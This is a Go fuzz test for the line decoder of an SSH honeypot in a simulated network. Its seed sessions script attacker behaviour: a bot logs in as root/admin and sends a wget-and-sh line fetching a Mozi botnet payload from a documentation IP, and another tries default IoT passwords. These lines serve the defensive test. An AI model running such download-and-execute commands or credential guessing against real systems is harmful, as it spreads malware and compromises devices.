package ssh

import (
	"bytes"
	"io"
	"reflect"
	"strings"
	"testing"

	"openhire/internal/netsim"
)

// fuzzConfig is the endpoint FuzzDecodeSession drives: one credential that
// opens the shell, and an attempt cap the fuzzer can reach.
var fuzzConfig = Config{
	Version:     "SSH-2.0-OpenSSH_5.1p1 Debian-5",
	Credentials: map[string]string{"root": "admin"},
	MaxAttempts: 3,
}

// FuzzDecodeSession holds the server's line decoder — the identification
// string, then credential and shell lines — to what the honeypot needs from
// it on attacker bytes: it never panics, the server fed the bytes one at a
// time answers and logs exactly what it does when the whole slice arrives in
// one write, and what it logs stays inside its caps. The seeds are the
// sessions Login and Attempt send, as the campaign's actors drive them.
func FuzzDecodeSession(f *testing.F) {
	malware := clientSession(func(rw io.ReadWriter) {
		if ok, _ := Login(rw, "SSH-2.0-Go-bot", "root", "admin"); ok {
			_, _ = rw.Write([]byte("cd /tmp; wget http://198.51.100.7/mozi.m; sh mozi.m\n"))
			_, _ = rw.Write([]byte("exit\n"))
		}
	})
	for _, raw := range [][]byte{
		malware,
		clientSession(func(rw io.ReadWriter) {
			if ok, _ := Login(rw, "SSH-2.0-libssh", "admin", "admin"); !ok {
				for _, pass := range []string{"1234", "xc3511", "admin"} {
					if ok, _ := Attempt(rw, "root", pass); ok {
						break
					}
				}
			}
		}),
		clientSession(func(rw io.ReadWriter) { _, _ = Login(rw, "SSH-2.0-paramiko", "support", "support") }),
		malware[:len(malware)-3], // cut inside "exit"
	} {
		f.Add(raw)
	}
	f.Add([]byte{})
	f.Add([]byte("SSH-1.99-x\r\nroot\nroot admin\n\n\nuname -a\n"))
	f.Add([]byte("GET / HTTP/1.1\r\n\r\n")) // not an SSH client
	f.Add(append([]byte("SSH-2.0-x\r\n"), bytes.Repeat([]byte{'A'}, netsim.MaxLine)...))
	f.Add(append([]byte("SSH-2.0-x\nroot admin\n"), bytes.Repeat([]byte("ls\n"), 70)...)) // over the command cap

	f.Fuzz(func(t *testing.T, raw []byte) {
		out, ev := replaySession(raw, len(raw))
		bout, bev := replaySession(raw, 1)
		if !bytes.Equal(bout, out) {
			t.Fatalf("byte at a time the server answers %q, whole %q", bout, out)
		}
		if !reflect.DeepEqual(bev, ev) {
			t.Fatalf("byte at a time the server logs %+v, whole %+v", bev, ev)
		}
		if strings.ContainsRune(ev.ClientVersion, '\n') || len(ev.ClientVersion) >= netsim.MaxLine {
			t.Fatalf("client version %q is not one line", ev.ClientVersion)
		}
		if len(ev.Attempts) > fuzzConfig.MaxAttempts || len(ev.Commands) > 64 {
			t.Fatalf("%d attempts and %d commands logged, caps %d and 64", len(ev.Attempts), len(ev.Commands), fuzzConfig.MaxAttempts)
		}
		if len(ev.Commands) > 0 && !ev.Success {
			t.Fatalf("commands %q logged without a granted login", ev.Commands)
		}
	})
}

// recorder keeps a copy of everything written through it.
type recorder struct {
	io.ReadWriter
	sent *bytes.Buffer
}

func (r recorder) Write(p []byte) (int, error) {
	r.sent.Write(p)
	return r.ReadWriter.Write(p)
}

// clientSession runs session against the fuzz endpoint after the banner and
// returns every byte it sent.
func clientSession(session func(io.ReadWriter)) []byte {
	var sent bytes.Buffer
	conn := dialFuzz(&Event{})
	if _, err := GrabBanner(conn); err == nil {
		session(recorder{conn, &sent})
	}
	_ = conn.Close()
	return sent.Bytes()
}

// replaySession writes raw to a fresh session chunk bytes per write until
// the server ends it, then closes, and returns everything the server wrote
// while the client was writing and the session record it logged.
func replaySession(raw []byte, chunk int) ([]byte, Event) {
	var ev Event
	conn := dialFuzz(&ev)
	var out bytes.Buffer
	buf := make([]byte, 512)
	drain := func() {
		for {
			n, err := conn.Read(buf)
			out.Write(buf[:n])
			if err != nil {
				return
			}
		}
	}
	drain() // the identification string
	for i := 0; i < len(raw); i += chunk {
		if _, err := conn.Write(raw[i:min(i+chunk, len(raw))]); err != nil {
			break // the server has ended the session
		}
		drain()
	}
	_ = conn.Close()
	return out.Bytes(), ev
}

// dialFuzz opens a session with the fuzz endpoint that logs into ev.
func dialFuzz(ev *Event) *netsim.ServiceConn {
	cfg := fuzzConfig
	cfg.OnEvent = func(e Event) { *ev = e }
	return netsim.Converse(NewServer(cfg).NewStepper(), netsim.MustParseIPv4("192.0.2.22"),
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.22"), Port: Port}, netsim.ExperimentStart)
}
